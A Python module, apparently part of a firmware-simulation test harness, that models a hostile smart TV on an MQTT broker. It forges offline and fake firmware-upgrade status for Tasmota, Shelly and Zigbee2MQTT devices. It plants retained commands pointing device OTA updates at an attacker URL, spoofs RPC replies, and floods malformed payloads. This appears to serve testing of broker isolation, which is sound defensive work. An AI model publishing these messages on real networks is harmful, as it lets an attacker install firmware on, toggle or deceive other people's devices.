"""What a hostile television makes of what it has heard: messages that others might have sent.

It knows the three families, and recognises them by their topics. Whatever it has not heard it cannot name, so
a broker that lets it hear nothing keeps most of this from it.
"""

import json
from collections.abc import Iterable, Iterator, Mapping
from typing import Final

from firmware_sim.fields import Json
from firmware_sim.firmware import Heard, Said

_VERSION: Final = "99.0.0"
_GREAT: Final = 64 * 1024
_DEEP: Final = 500


def spoofed(heard: Iterable[Heard]) -> Iterator[Said]:
    """Others are gone, have been updated, and run version 99."""
    for message in _first_of_each(heard):
        first, _, last = message.topic.rpartition("/")
        match first.split("/"), last:
            case ["tele", *name], "LWT" if name:
                device = "/".join(name)
                yield Said(message.topic, b"Offline", 1, retain=True)
                yield _json(f"stat/{device}/UPGRADE", {"Upgrade": "Successful. Restarting"})
                yield _json(f"stat/{device}/STATUS2", {"StatusFWR": {"Version": f"{_VERSION}(tasmota)"}})
            case [*name], "online" if name:
                yield Said(message.topic, b"false", 1)
                event: Json = {"component": "sys", "event": "ota_success", "msg": "", "ts": 1.0}
                params: Json = {"ts": 1.0, "events": [event]}
                frame: Json = {"src": first, "dst": "x", "method": "NotifyEvent", "params": params}
                yield _json(f"{first}/events/rpc", frame)
            case [*name, "bridge"], "state" if name:
                yield _json(message.topic, {"state": "offline"}, retain=True)
            case [*name], "availability" if name:
                yield _json(message.topic, {"state": "offline"}, retain=True)
                update: Json = {"state": "idle", "installed_version": 99, "latest_version": 99}
                yield _json(first, {"update": update})
            case _:
                pass


def planted(heard: Iterable[Heard], evil: str) -> Iterator[Said]:
    """Retained commands for others."""
    for message in _first_of_each(heard):
        first, _, last = message.topic.rpartition("/")
        match first.split("/"), last:
            case ["tele", *name], "LWT" if name:
                device = "/".join(name)
                for command, data in (("POWER", "TOGGLE"), ("OtaUrl", evil), ("Upgrade", "1")):
                    yield Said(f"cmnd/{device}/{command}", data.encode(), 1, retain=True)
            case [*name], "online" if name:
                params: Json = {"url": evil}
                frame: Json = {"id": 1, "src": "tv", "method": "Shelly.Update", "params": params}
                yield _json(f"{first}/rpc", frame, retain=True)
            case [*name], "availability" if name:
                yield Said(f"{first}/set", b'{"state":"TOGGLE"}', 1, retain=True)
                base, _, device = first.partition("/")
                request = f"{base}/bridge/request/device/ota_update/update"
                yield _json(request, {"id": device, "url": evil}, retain=True)
            case _:
                pass


def answered(heard: Iterable[Heard]) -> Iterator[Said]:
    """Answers to what others were asked, as if they came from those."""
    for message in heard:
        asked = _object(message.payload)
        first, _, last = message.topic.rpartition("/")
        source, number = asked.get("src"), asked.get("id")
        if not isinstance(number, str | int):
            continue
        if last == "rpc" and isinstance(source, str) and "method" in asked and _topic(source):
            result: Json = {"ver": _VERSION, "id": first}
            yield _json(f"{source}/rpc", {"id": number, "src": first, "dst": source, "result": result})
        base, middle, name = message.topic.partition("/bridge/request/")
        transaction = asked.get("transaction")
        if middle and isinstance(transaction, str | int) and _topic(base):
            to: Json = {"file_version": 99}
            data: Json = {"id": number, "from": {"file_version": 1}, "to": to}
            answer: Json = {"data": data, "status": "ok", "transaction": transaction}
            yield _json(f"{base}/bridge/response/{name}", answer)


def flood(own: str, heard: Iterable[Heard], many: int) -> Iterator[Said]:
    """Many messages: in turn small, large, deep, and no text."""
    topics = [own, *dict.fromkeys(message.topic for message in heard)]
    shapes = (
        b"{}",
        b'{"x":"' + b"x" * _GREAT + b'"}',
        b"[" * _DEEP + b"]" * _DEEP,
        b"\xff\xfe\x00\x80",
        b'{"a":1,"a":NaN}',
    )
    for place in range(many):
        yield Said(topics[place % len(topics)], shapes[place % len(shapes)], 0)


def _first_of_each(heard: Iterable[Heard]) -> Iterable[Heard]:
    return {message.topic: message for message in heard}.values()


def _object(payload: bytes) -> Mapping[str, Json]:
    try:
        value: Json = json.loads(payload)
    except (ValueError, RecursionError):
        return {}
    return value if isinstance(value, Mapping) else {}


def _json(topic: str, body: Json, *, retain: bool = False) -> Said:
    return Said(topic, json.dumps(body).encode(), 1, retain)


def _topic(text: str) -> bool:
    return bool(text) and not set(text) & set("+#\0") and len(text) < 1000 and text.isprintable()  # noqa: PLR2004 - any bound does
